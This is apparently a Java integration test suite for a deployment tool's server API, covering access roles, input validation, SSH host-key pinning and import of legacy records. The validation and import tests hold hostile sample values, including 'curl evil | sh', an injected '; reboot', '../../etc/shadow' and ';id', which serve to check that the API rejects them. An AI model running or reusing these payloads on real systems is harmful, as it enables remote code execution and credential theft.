package io.triggerdeploy.server;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.triggerdeploy.ssh.HostKeys;
import io.triggerdeploy.support.ApiTest;
import io.triggerdeploy.support.TestSshServer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.nullValue;

@QuarkusTest
class ServerResourceTest extends ApiTest {

    String admin;
    String operator;
    String viewer;

    @BeforeEach
    void users() {
        RoleTokens tokens = roleTokens();
        admin = tokens.admin();
        operator = tokens.operator();
        viewer = tokens.viewer();
    }

    static Map<String, Object> server(String alias) {
        Map<String, Object> m = new HashMap<>();
        m.put("name", "Web " + alias);
        m.put("alias", alias);
        m.put("host", "127.0.0.1");
        m.put("user", "deployer");
        m.put("path", "/srv/" + alias);
        return m;
    }

    long create(Map<String, Object> body) {
        return given().auth().oauth2(admin).contentType(ContentType.JSON).body(body).post("/api/servers")
                .then().statusCode(201).extract().<Number>path("id").longValue();
    }

    @Test
    void createAppliesDefaultsAndEveryoneSignedInReads() {
        String alias = unique("web");
        long id = create(server(alias));
        for (String token : List.of(admin, operator, viewer)) {
            given().auth().oauth2(token).get("/api/servers/" + id).then().statusCode(200)
                    .body("alias", equalTo(alias)).body("port", equalTo(22)).body("command", equalTo("./deploy.sh"))
                    .body("timeout_seconds", equalTo(1800)).body("active", equalTo(true)).body("host_key", nullValue());
        }
        given().auth().oauth2(viewer).get("/api/servers/" + alias.toUpperCase()).then().statusCode(200).body("id", equalTo((int) id));
        given().auth().oauth2(viewer).get("/api/servers").then().statusCode(200).body("alias", hasItem(alias));
        given().auth().oauth2(viewer).get("/api/servers/no-such-server").then().statusCode(404)
                .body("detail", org.hamcrest.Matchers.containsString("no-such-server"));
        given().get("/api/servers").then().statusCode(401);
    }

    @Test
    void onlyAdminsWrite() throws Exception {
        String alias = unique("ro");
        long id = create(server(alias));
        long before = queryLong("SELECT count(*) FROM servers");
        for (String token : List.of(operator, viewer)) {
            given().auth().oauth2(token).contentType(ContentType.JSON).body(server(unique("x"))).post("/api/servers").then().statusCode(403);
            given().auth().oauth2(token).contentType(ContentType.JSON).body(Map.of("path", "/tmp")).patch("/api/servers/" + id).then().statusCode(403);
            given().auth().oauth2(token).delete("/api/servers/" + id).then().statusCode(403);
            given().auth().oauth2(token).post("/api/servers/" + id + "/host-key/scan").then().statusCode(403);
            given().auth().oauth2(token).contentType(ContentType.JSON).body(List.of()).post("/api/servers/import").then().statusCode(403);
        }
        assertThat(queryLong("SELECT count(*) FROM servers")).isEqualTo(before);
        assertThat(queryString("SELECT path FROM servers WHERE id = " + id)).isEqualTo("/srv/" + alias);
        given().auth().oauth2(admin).delete("/api/servers/" + id).then().statusCode(204);
        given().auth().oauth2(admin).get("/api/servers/" + id).then().statusCode(404);
    }

    @Test
    void unsafeOrInvalidInputIsRefusedNamingTheField() throws Exception {
        long before = queryLong("SELECT count(*) FROM servers");
        Map<String, String> bad = Map.of(
                "command", "./deploy.sh; curl evil | sh",
                "path", "/srv/app\n; reboot",
                "host_key", "not a key",
                "private_key_ref", "../../etc/shadow",
                "host", "bad host!",
                "user", "root;id",
                "alias", "-x");
        for (var e : bad.entrySet()) {
            Map<String, Object> body = server(unique("bad"));
            body.put(e.getKey(), e.getValue());
            given().auth().oauth2(admin).contentType(ContentType.JSON).body(body).post("/api/servers")
                    .then().statusCode(400).contentType("application/problem+json")
                    .body("violations.field", hasItem(e.getKey()));
        }
        Map<String, Object> noPath = server(unique("np"));
        noPath.remove("path");
        given().auth().oauth2(admin).contentType(ContentType.JSON).body(noPath).post("/api/servers").then().statusCode(400)
                .body("violations.field", hasItem("path"));
        assertThat(queryLong("SELECT count(*) FROM servers")).isEqualTo(before);

        String alias = unique("dup");
        create(server(alias));
        given().auth().oauth2(admin).contentType(ContentType.JSON).body(server(alias.toUpperCase())).post("/api/servers")
                .then().statusCode(409);
    }

    @Test
    void hostKeysAreScannedConfirmedAndPinned() throws Exception {
        try (TestSshServer sshd = TestSshServer.start("deployer", TestSshServer.ecKeyPair().getPublic())) {
            Map<String, Object> body = server(unique("pin"));
            body.put("port", sshd.port());
            long id = create(body);
            String fingerprint = HostKeys.of(sshd.hostKey.getPublic()).fingerprint();

            given().auth().oauth2(admin).post("/api/servers/" + id + "/host-key/scan").then().statusCode(200)
                    .body("fingerprint", equalTo(fingerprint)).body("matches_pinned", equalTo(false))
                    .body("pinned_fingerprint", nullValue());
            assertThat(queryString("SELECT host_key FROM servers WHERE id = " + id)).as("a scan pins nothing").isNull();

            given().auth().oauth2(admin).contentType(ContentType.JSON).body(Map.of("fingerprint", "SHA256:somethingElse"))
                    .put("/api/servers/" + id + "/host-key").then().statusCode(409);
            assertThat(queryString("SELECT host_key FROM servers WHERE id = " + id)).isNull();

            given().auth().oauth2(admin).contentType(ContentType.JSON).body(Map.of("fingerprint", fingerprint))
                    .put("/api/servers/" + id + "/host-key").then().statusCode(200)
                    .body("host_key_fingerprint", equalTo(fingerprint));
            given().auth().oauth2(admin).post("/api/servers/" + id + "/host-key/scan").then().statusCode(200)
                    .body("matches_pinned", equalTo(true));

            // moving the server to another port drops the pin: it may be another machine
            given().auth().oauth2(admin).contentType(ContentType.JSON).body(Map.of("port", 2222))
                    .patch("/api/servers/" + id).then().statusCode(200).body("host_key", nullValue());

            // a known_hosts line is accepted and stored as a plain key line
            given().auth().oauth2(admin).contentType(ContentType.JSON)
                    .body(Map.of("host_key", "[127.0.0.1]:2222 " + sshd.hostKeyLine() + " root@host"))
                    .put("/api/servers/" + id + "/host-key").then().statusCode(200)
                    .body("host_key", equalTo(sshd.hostKeyLine())).body("host_key_fingerprint", equalTo(fingerprint));
        }
    }

    /**
     * The monitor's finding about a server's SSH port ("UNPINNED", "HOST_KEY_MISMATCH") was about its key and address at
     * the time: pinning a key, or moving the server, clears it at once (in the answer and in the row, whichever path
     * changed the row) and makes the server due for a check, instead of the old badge staying on its card.
     */
    @Test
    void aNewPinOrAddressClearsTheStaleReachabilityAndMakesTheServerDue() throws Exception {
        try (TestSshServer sshd = TestSshServer.start("deployer", TestSshServer.ecKeyPair().getPublic())) {
            Map<String, Object> body = server(unique("reach"));
            body.put("port", sshd.port());
            long id = create(body);
            String found = "UPDATE servers SET reachability = 'UNPINNED', reachability_error = 'no host key is pinned yet', "
                    + "reachability_checked_at = now(), next_reachability_check_at = now() + interval '1 hour' WHERE id = " + id;
            update(found); // what the monitor found before the pin
            given().auth().oauth2(viewer).get("/api/servers/" + id).then().statusCode(200).body("reachability", equalTo("UNPINNED"));

            given().auth().oauth2(admin).contentType(ContentType.JSON).body(Map.of("host_key", sshd.hostKeyLine()))
                    .put("/api/servers/" + id + "/host-key").then().statusCode(200)
                    .body("reachability", nullValue()).body("reachability_error", nullValue());
            given().auth().oauth2(viewer).get("/api/servers/" + id).then().statusCode(200).body("reachability", nullValue());
            assertThat(queryLong("SELECT count(*) FROM servers WHERE id = " + id + " AND next_reachability_check_at <= now()"))
                    .as("due for a check now").isEqualTo(1);

            // the same key pinned again changes nothing the monitor found
            update("UPDATE servers SET reachability = 'REACHABLE', reachability_checked_at = now() WHERE id = " + id);
            given().auth().oauth2(admin).contentType(ContentType.JSON).body(Map.of("host_key", sshd.hostKeyLine()))
                    .put("/api/servers/" + id + "/host-key").then().statusCode(200).body("reachability", equalTo("REACHABLE"));

            // a new address through the API, and one written by plain SQL: cleared either way
            update(found);
            given().auth().oauth2(admin).contentType(ContentType.JSON).body(Map.of("port", 2222))
                    .patch("/api/servers/" + id).then().statusCode(200).body("reachability", nullValue());
            update(found);
            update("UPDATE servers SET host = '127.0.0.2' WHERE id = " + id);
            assertThat(queryString("SELECT coalesce(reachability, 'cleared') FROM servers WHERE id = " + id)).isEqualTo("cleared");
        }
    }

    @Test
    void scanningAnUnreachableHostIsABadGateway() throws Exception {
        int closed;
        try (var s = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            closed = s.getLocalPort();
        }
        Map<String, Object> body = server(unique("down"));
        body.put("port", closed);
        long id = create(body);
        given().auth().oauth2(admin).post("/api/servers/" + id + "/host-key/scan").then().statusCode(502)
                .contentType("application/problem+json").body("detail", org.hamcrest.Matchers.containsString("refused"));
    }

    @Test
    void importsTheOldToolsServersJson() {
        String a = unique("legacy");
        List<Map<String, Object>> rows = List.of(
                Map.of("name", "App Server", "ip", "127.0.0.5", "user", "ubuntu", "alias", a, "path", "/home/ubuntu/app",
                        "type", "production", "port", 2222, "description", "main"),
                Map.of("name", "No Path", "ip", "127.0.0.6", "user", "ubuntu", "alias", unique("np")),
                Map.of("name", "Evil", "ip", "127.0.0.7", "user", "ubuntu", "alias", unique("ev"), "path", "/x\n;id"));
        given().auth().oauth2(admin).contentType(ContentType.JSON).body(rows).post("/api/servers/import")
                .then().statusCode(200).body("created", hasSize(1)).body("skipped", hasSize(2))
                .body("created[0].environment", equalTo("production")).body("created[0].port", equalTo(2222))
                .body("created[0].host_key", nullValue());
        given().auth().oauth2(viewer).get("/api/servers/127.0.0.5").then().statusCode(200).body("alias", equalTo(a));
        given().auth().oauth2(admin).contentType(ContentType.JSON).body(rows.subList(0, 1)).post("/api/servers/import")
                .then().statusCode(200).body("created", hasSize(0)).body("skipped", hasSize(1));
    }
}
